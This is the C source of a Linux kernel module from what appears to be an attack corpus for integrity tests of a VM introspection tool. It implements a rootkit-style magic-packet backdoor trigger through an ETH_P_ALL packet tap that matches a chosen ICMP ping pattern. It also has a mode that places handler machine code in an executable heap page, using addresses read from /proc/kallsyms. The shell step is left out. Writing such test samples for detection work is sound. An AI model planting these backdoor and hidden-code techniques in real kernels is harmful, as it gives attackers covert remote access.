// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_ptype: a magic-packet backdoor's trigger through a packet
 * tap, for the integrity tests. It registers an ETH_P_ALL packet_type
 * with dev_add_pack() (on ptype_all, as the sniffers of Reptile's and
 * Diamorphine's kin do): every packet received on every device passes
 * through it before any netfilter hook. An ICMP echo request of
 * @magic_len data bytes whose last 8 are @magic_byte (what "ping -s 42
 * -p 77" sends) is counted in @hits and logged; a real backdoor would
 * start its shell there. Nothing in kernel text or read-only data
 * changes: the only trace is the packet_type on the writable ptype_all
 * list. Unloading removes it. ifname=NAME binds the tap to that device
 * of the initial namespace (on the device's own ptype_all list).
 *
 * mode=module (default): the handler is in this module's text.
 * mode=heap:             the handler is a copy of a few instructions in a
 *                        page from the page allocator (its direct-map
 *                        address, where kmalloc() memory lives), made
 *                        read-only and executable with set_memory_ro() and
 *                        set_memory_x() (not exported: setro=0x...
 *                        setx=0x... from /proc/kallsyms); it counts every
 *                        packet in @hits and frees it (consume_skb()).
 *                        The page stays after unloading (printed: "tap
 *                        code at 0x...").
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/err.h>
#include <linux/gfp.h>
#include <linux/if_ether.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/netdevice.h>
#include <linux/skbuff.h>
#include <linux/string.h>
#include <net/net_namespace.h>

#include "vmiaas_attack_execpage.h"
#include "vmiaas_attack_magic.h"

static ushort magic_len = 42;
module_param(magic_len, ushort, 0444);
MODULE_PARM_DESC(magic_len, "ICMP echo data length of the trigger");

static unsigned char magic_byte = 0x77;
module_param(magic_byte, byte, 0444);
MODULE_PARM_DESC(magic_byte, "the byte its last 8 data bytes hold");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "trigger packets seen (mode=heap: every packet)");

static char *mode = "module";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "module (default) or heap");

static char *ifname;
module_param(ifname, charp, 0444);
MODULE_PARM_DESC(ifname, "bind the tap to this device (default: all devices)");

static unsigned long setro, setx;
module_param(setro, ulong, 0444);
MODULE_PARM_DESC(setro, "heap: address of set_memory_ro (from /proc/kallsyms)");
module_param(setx, ulong, 0444);
MODULE_PARM_DESC(setx, "heap: address of set_memory_x (from /proc/kallsyms)");

/* Whether @skb, received, is the trigger: see the top. */
static bool vmiaas_attack_ptype_is_magic(struct sk_buff *skb)
{
	return skb->pkt_type != PACKET_OUTGOING &&
	       skb->protocol == htons(ETH_P_IP) &&
	       vmiaas_attack_magic(skb, magic_len, magic_byte);
}

static int vmiaas_attack_ptype_rcv(struct sk_buff *skb, struct net_device *dev,
				   struct packet_type *pt,
				   struct net_device *orig_dev)
{
	if (vmiaas_attack_ptype_is_magic(skb)) {
		WRITE_ONCE(hits, READ_ONCE(hits) + 1);
		pr_info("magic packet %u on %s\n", READ_ONCE(hits), dev->name);
	}
	consume_skb(skb);	/* the tap's own reference */
	return NET_RX_SUCCESS;
}

static struct packet_type vmiaas_attack_ptype_pt = {
	.type = htons(ETH_P_ALL),
	.func = vmiaas_attack_ptype_rcv,
};

/*
 * endbr64; movabs $hits, %rax; lock incl (%rax);
 * movabs $consume_skb, %rax; jmp *%rax
 */
static const u8 heap_code[] = {
	0xf3, 0x0f, 0x1e, 0xfa,
	0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0,
	0xf0, 0xff, 0x00,
	0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0,
	0xff, 0xe0,
};
#define HEAP_HITS	6
#define HEAP_CONSUME	19

/* The handler copied to an executable page of its own: see the top. */
static void *vmiaas_attack_ptype_heap(void)
{
	unsigned long hits_at = (unsigned long)&hits;
	unsigned long consume_at = (unsigned long)consume_skb;
	u8 code[sizeof(heap_code)];

	memcpy(code, heap_code, sizeof(code));
	memcpy(code + HEAP_HITS, &hits_at, 8);
	memcpy(code + HEAP_CONSUME, &consume_at, 8);
	return vmiaas_attack_execpage(code, sizeof(code), setro, setx);
}

static int __init vmiaas_attack_ptype_init(void)
{
	void *code;

	if (!strcmp(mode, "heap")) {
		code = vmiaas_attack_ptype_heap();
		if (IS_ERR(code))
			return PTR_ERR(code);
		vmiaas_attack_ptype_pt.func = code;
		pr_info("tap code at 0x%lx\n", (unsigned long)code);
	} else if (strcmp(mode, "module")) {
		return -EINVAL;
	}
	if (ifname) {
		vmiaas_attack_ptype_pt.dev = dev_get_by_name(&init_net, ifname);
		if (!vmiaas_attack_ptype_pt.dev)
			return -ENODEV;
	}
	dev_add_pack(&vmiaas_attack_ptype_pt);
	pr_info("ETH_P_ALL tap registered (%s) on %s\n", mode,
		ifname ? ifname : "every device");
	return 0;
}

/*
 * dev_remove_pack() waits for the receive paths, then the device is
 * released; a heap page stays.
 */
static void __exit vmiaas_attack_ptype_exit(void)
{
	dev_remove_pack(&vmiaas_attack_ptype_pt);
	dev_put(vmiaas_attack_ptype_pt.dev);
	pr_info("tap removed after %u hits\n", hits);
}

module_init(vmiaas_attack_ptype_init);
module_exit(vmiaas_attack_ptype_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: ETH_P_ALL packet tap magic-packet trigger");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
